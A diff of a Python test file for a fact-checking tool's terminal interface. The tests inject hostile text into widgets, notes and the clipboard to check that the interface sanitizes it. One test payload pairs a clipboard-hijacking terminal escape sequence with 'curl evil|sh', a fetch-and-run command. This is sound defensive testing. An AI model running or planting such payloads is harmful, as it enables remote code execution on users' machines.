@@ -8,7 +8,7 @@ from dataclasses import replace
 import pytest
 from textual.widgets import Input, TextArea
 
-from checker.model import Evidence, Report, Review
+from checker.model import Evidence, Report
 from checker.sources import OutletRecord
 from tui.terminal import MODES
 
@@ -32,6 +32,7 @@ def poisoned(report: Report, payload: str) -> Report:
                 published=payload, warnings=(payload,))
         for article in report.articles
     )  # fmt: skip
+    payload = payload.replace("\udcff", "\ufffd")  # half a character is gone before claims are read
     claims = tuple(
         replace(claim, source=payload, origin=payload + "!", kind=payload,
                 values=tuple(replace(value, noun=payload, unit=None) for value in claim.values))
@@ -39,7 +40,7 @@ def poisoned(report: Report, payload: str) -> Report:
     )  # fmt: skip
     evidence = (Evidence(payload, "same", 0.1, payload),)
     findings = tuple(
-        replace(finding, question=payload, review=Review("accept", payload, "", payload),
+        replace(finding, question=payload,
                 pairs=tuple(replace(pair, rule=payload, evidence=evidence) for pair in finding.pairs))
         for finding in report.findings
     )  # fmt: skip
@@ -58,21 +59,32 @@ def check(app, grid: str) -> None:
             assert segment.style is None or "@click" not in segment.style.meta
 
 
+def reviewed(desk, payload: str) -> None:
+    """What reviewers typed is as foreign as an article."""
+    for ident in ("f1", "f2"):
+        desk.decide(ident, "accept", payload, reason=payload)
+        desk.note(ident, payload, payload)
+    desk.tag("f1", [payload], (), payload)
+    desk.assign("f1", payload, payload)
+
+
 @pytest.mark.parametrize("name", PAYLOADS)
-async def test_no_widget_lets_foreign_text_act(name: str, desk, review, press, screen_text) -> None:
+async def test_no_widget_lets_foreign_text_act(name: str, other_desk, report, review, press, screen_text) -> None:
     payload = PAYLOADS[name]
-    desk.now = poisoned(desk.now, payload)
-    desk.records = [
-        OutletRecord(f"{payload} {record.name}", ((payload, payload),), *[payload] * 5) for record in desk.records
-    ]
+    desk = other_desk(poisoned(report, payload))
+    reviewed(desk, payload)
+    for outlet in ("أخبار النيل", "Harbour Post"):
+        desk.save_outlet(OutletRecord(f"{payload} {outlet}", ((payload, payload),), payload, payload, payload, note=payload))
     mode = MODES[list(PAYLOADS).index(name) % len(MODES)]
-    async with review(desk, size=(110, 34), mode=mode) as (app, pilot):
+    async with review(desk, size=(200, 34), mode=mode) as (app, pilot):
         await press(pilot, "down", "right", "shift+down")
         check(app, screen_text(app))
         await pilot.click("#findings", offset=(6, 1))
         await pilot.click("#claims", offset=(12, 2))
         for keys in (("n",), ("escape", "o"), ("escape", "w"), ("escape", "enter"), ("n", "escape", "S"),
-                     ("end", "enter"), ("escape", "escape", "slash")):  # fmt: skip
+                     ("end", "enter"), ("escape", "escape", "x"), ("t",), ("escape", "L"), ("escape", "H"), ("escape", "e"),
+                     ("escape", "t"), ("escape", "b"), ("G", "G"), ("W", "right", "W"), ("escape", "O"),
+                     ("escape", "slash")):  # fmt: skip
             await press(pilot, *keys)
             check(app, screen_text(app))
         app.screen.query_one("#search", Input).value = payload[:500]
@@ -84,17 +96,17 @@ async def test_no_widget_lets_foreign_text_act(name: str, desk, review, press, s
         assert app.is_running
 
 
-async def test_a_note_left_alone_is_saved_as_it_was(desk, review, press) -> None:
-    desk.now = poisoned(desk.now, "old\x1b[2J")
+async def test_a_note_left_alone_is_saved_as_it_was(desk, review, press, screen_text) -> None:
+    desk.note("f1", "old\x1b[2J", "dana")
     async with review(desk) as (app, pilot):
         await press(pilot, "n")
         assert app.screen.query_one(TextArea).text == "old⟨001B⟩[2J"
         await press(pilot, "ctrl+s")
-        assert desk.calls == [("note", "f1", "old\x1b[2J")]
+        assert desk.finding("f1").review.note == "old\x1b[2J" and "nothing to save" in screen_text(app)
 
 
-async def test_the_clipboard_gets_no_control_character(desk, review, press) -> None:
-    desk.now = poisoned(desk.now, "x\x1b]52;c;ZXZpbA==\x07\ncurl evil|sh")
+async def test_the_clipboard_gets_no_control_character(other_desk, report, review, press) -> None:
+    desk = other_desk(poisoned(report, "x\x1b]52;c;ZXZpbA==\x07\ncurl evil|sh"))
     async with review(desk) as (app, pilot):
         await press(pilot, "c")
-        assert not CONTROL.search(app.clipboard) and "\n" not in app.clipboard
+        assert app.clipboard and not CONTROL.search(app.clipboard) and "\n" not in app.clipboard
